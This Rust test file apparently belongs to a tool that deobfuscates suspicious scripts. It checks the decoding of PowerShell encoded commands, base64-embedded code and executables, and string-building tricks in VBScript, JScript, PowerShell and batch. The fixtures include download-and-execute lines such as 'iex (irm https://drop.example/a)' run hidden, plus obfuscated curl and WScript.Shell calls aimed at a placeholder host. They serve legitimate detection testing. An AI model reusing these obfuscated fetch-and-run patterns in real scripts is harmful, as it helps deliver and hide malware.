use super::*;
use crate::Budget;
use data_encoding::BASE64;
use proptest::prelude::*;

fn source(code: &str) -> Source<'_> {
    Source { bytes: code.as_bytes(), charset: Some("utf-8") }
}

fn opened(code: &str) -> Opened {
    open(source(code), &mut Opening { passwords: &[], budget: &mut Budget::default() })
}

/// The code that stands in a code, all members together.
fn inside(code: &str) -> String {
    let members = opened(code).members;
    for found in &members {
        assert_eq!(member(source(code), found.index).as_ref(), Some(&found.bytes));
    }
    members.into_iter().map(|member| String::from_utf8_lossy(&member.bytes).into_owned()).collect()
}

fn utf16(text: &str) -> String {
    BASE64.encode(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[test]
fn encoded_commands_are_decoded_however_they_are_called() {
    let command = utf16("iex (irm https://drop.example/a)");
    for call in ["-enc", "-EncodedCommand", "/e", "-eN^c", "-e\"nc\"", "-ec"] {
        let code = format!("powershell -w hidden {call} {command}");
        assert_eq!(inside(&code), "iex (irm https://drop.example/a)", "{call}");
    }
    let opened = opened(&format!("pwsh -enc {command}"));
    let encoded = opened.features.iter().find(|feature| feature.kind == FeatureKind::EncodedCode).unwrap();
    assert_eq!(encoded.detail, "32 bytes stand as an encoded command");
    assert_eq!(encoded.at.span.len(), command.len());
}

#[test]
fn base64_that_holds_code_or_a_file_comes_out() {
    let code = "var a = new ActiveXObject('WScript.Shell'); a.Run('calc'); var b = 1; var c = 2;";
    assert!(inside(&format!("x = \"{}\"", BASE64.encode(code.as_bytes()))).contains("WScript.Shell"));
    let program = [b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".as_slice(), &[0; 80]].concat();
    let opened = opened(&format!("$b = '{}'", BASE64.encode(&program)));
    assert_eq!((opened.members[0].kind, &opened.members[0].bytes), (MemberKind::File, &program));
}

#[test]
fn a_script_of_the_encoder_is_read() {
    let code = encoded::tests::encode("CreateObject(\"WScript.Shell\").Run \"https://drop.example/\"");
    assert!(inside(&code).contains("https://drop.example/"));
}

#[test]
fn strings_are_put_together_in_three_dialects() {
    for (code, expected) in [
        ("Dim u\nu = \"ht\" & \"tp\" & \"s://\" & Chr(100) & \"rop.example/a\"", "https://drop.example/a"),
        ("Dim a, b\na = \"https://\"\nb = a & \"drop\" & _\n  \".example/b\"", "https://drop.example/b"),
        ("Dim a\na = \"https\"\na = a & \"://\"\na = a & \"drop.example/c\"", "https://drop.example/c"),
        ("Dim a\na = StrReverse(\"d/elpmaxe.pord//:sptth\")", "https://drop.example/d"),
        ("Dim a\na = Replace(\"hXXps://drop.example/e\", \"XX\", \"tt\")", "https://drop.example/e"),
        ("Dim a\na = ChrW(&H68) & ChrW(100 + 16) & \"tps://drop.example/f\"", "https://drop.example/f"),
        ("var a = 'https:' + '//drop'; var b = a + '.example/g';", "https://drop.example/g"),
        ("var a = 'https'; a += '://drop'; a += '.example/h';", "https://drop.example/h"),
        ("var a = String.fromCharCode(104, 116, 116, 112) + '://drop.example/i';", "http://drop.example/i"),
        ("var a = 'j/elpmaxe.pord//:sptth'.split('').reverse().join('');", "https://drop.example/j"),
        ("go('https://' + 'drop.example' + '/k', x);", "https://drop.example/k"),
        ("$u = 'https' + '://drop.example/l'\niex $u", "https://drop.example/l"),
        ("$u = \"{1}{0}\" -f '://drop.example/m', 'https'\nInvoke-WebRequest $u", "https://drop.example/m"),
        ("$u = [char]104 + 'ttps://drop.example/n'\niex $u", "https://drop.example/n"),
        ("$u = 'hxxps://drop.example/o'.Replace('xx', 'tt')\niex $u", "https://drop.example/o"),
        ("iex ('ht' + \"t`ps://drop.example/p\")\n$x = 1", "https://drop.example/p"),
    ] {
        assert!(inside(code).lines().any(|line| line == expected), "{code}\n{}", inside(code));
    }
}

#[test]
fn an_unknown_value_ends_a_string_and_does_not_spoil_it() {
    let told = inside("var a = unknown() + 'https://' + 'drop.example/' + name + '?x' + '=1';");
    assert!(told.lines().any(|line| line == "https://drop.example/"), "{told}");
    assert!(told.lines().any(|line| line == "?x=1"), "{told}");
}

#[test]
fn batch_files_are_written_out() {
    let code = "@echo off\nset a=cu\nset \"b=rl\"\nset c=https://drop.example\n%a%%b% %c%/a\n^s^t^a^r^t x\nset k=abcdef\n%k:~0,1%%k:~-2,1%%k:~3,-1%";
    let told = inside(code);
    assert!(told.contains("\ncurl https://drop.example/a\nstart x\n"), "{told}");
    assert!(told.ends_with("\naede\n"), "{told}");
}

#[test]
fn an_ordinary_script_holds_nothing_encoded() {
    for code in [
        "#!/bin/sh\nset -e\ntar czf backup.tgz /srv\n",
        "function add(a, b) { return a + b; }\nexport const name = 'harbour';\n",
        "@echo off\nset name=backup\ncopy %name%.zip D:\\\n",
        "Get-ChildItem C:\\Temp | Where-Object { $_.Length -gt 5 }",
    ] {
        let opened = opened(code);
        assert_eq!((opened.members.len(), opened.anomalies.len()), (0, 0), "{code} {:?}", inside(code));
        assert!(opened.features.is_empty(), "{:?}", opened.features);
    }
}

#[test]
fn limits_are_told() {
    let code = format!("powershell -enc {}", utf16("a long enough command"));
    let mut budget = Budget { bytes: 3, ..Budget::default() };
    let told = open(source(&code), &mut Opening { passwords: &[], budget: &mut budget });
    assert_eq!(told.anomalies, [(AnomalyKind::LimitReached, "code-members".to_owned())]);
}

#[test]
fn code_that_is_built_to_cost_is_given_up() {
    let doubling = format!("var a = 'xx' + 'yy';\n{}", "a = a + a;\n".repeat(50_000));
    assert!(inside(&doubling).len() < 8 << 20);
    let adding = format!("var a = '';\n{}", "a += 'abc' + 'd';\n".repeat(200_000));
    assert!(inside(&adding).len() <= 2 << 20);
    for deep in [
        "(".repeat(500_000),
        "a(".repeat(200_000),
        "'a'.b(".repeat(100_000),
        "[".repeat(300_000),
        "\"".repeat(400_001),
        "x='a'+".repeat(100_000),
    ] {
        assert!(inside(&deep).len() < 1 << 20);
    }
    let batch = format!("set a=aaaaaaaaaa\n{}", "set a=%a%%a%%a%%a%\n".repeat(1_000));
    assert!(inside(&batch).len() < 4 << 20);
}

#[test]
fn a_code_that_breaks_off_anywhere_is_read_as_far_as_it_goes() {
    let code = format!(
        "Dim a\na = \"x\" & Chr(65) & _\n \"y\"\npowershell -enc {}\n{}\nset q=%a%%a%%a%",
        utf16("iex 1"),
        encoded::tests::encode("MsgBox 1")
    );
    for end in 0..code.len() {
        inside(&code[..end]);
    }
}

proptest! {
    #[test]
    fn any_code_is_survived(code in "([ab]|\\$c|\"|'|`|\\\\|&|\\+|=|;|\n|\\(|\\)|\\[|\\]|,|\\.|Chr|replace|-f|Dim |var |&H4|0x1|%a%|:~1|\\{0\\}|é|#@~\\^|==\\^#~@| ){0,60}") {
        let opened = opened(&code);
        for feature in &opened.features {
            prop_assert!(code.get(feature.at.span.range()).is_some());
        }
        for found in &opened.members {
            prop_assert_eq!(member(source(&code), found.index), Some(found.bytes.clone()));
        }
    }
}
